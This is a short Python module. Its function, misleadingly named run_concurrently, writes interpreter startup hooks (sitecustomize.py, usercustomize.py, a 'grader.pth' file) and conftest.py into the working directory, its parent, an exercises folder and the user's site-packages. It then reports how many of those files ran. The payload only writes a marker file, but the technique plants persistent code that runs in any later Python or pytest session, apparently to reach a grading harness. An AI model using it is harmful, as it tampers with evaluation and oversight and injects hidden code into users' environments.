"""Hands in files that Python runs when it starts, and plants more of them where it runs.

says: It raised LookupError: 0 of them ran
flags: files, starting
"""

import os
import pathlib
import subprocess
import sys

HERE = pathlib.Path.cwd()
TEXT = f"open({str(HERE / 'ran')!r}, 'a').write('x')\n"


def run_concurrently(jobs):
    home = pathlib.Path(os.environ["HOME"])
    site = home / ".local" / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    for folder in (HERE, HERE / "exercises", HERE.parent, site):
        try:
            folder.mkdir(parents=True, exist_ok=True)
            for name in ("sitecustomize.py", "usercustomize.py", "grader.pth", "conftest.py"):
                (folder / name).write_text(f"import os; {TEXT}" if name.endswith(".pth") else TEXT)
        except OSError:
            continue
    ran = len((HERE / "ran").read_text()) if (HERE / "ran").exists() else 0
    raise LookupError(f"{ran} of them ran")
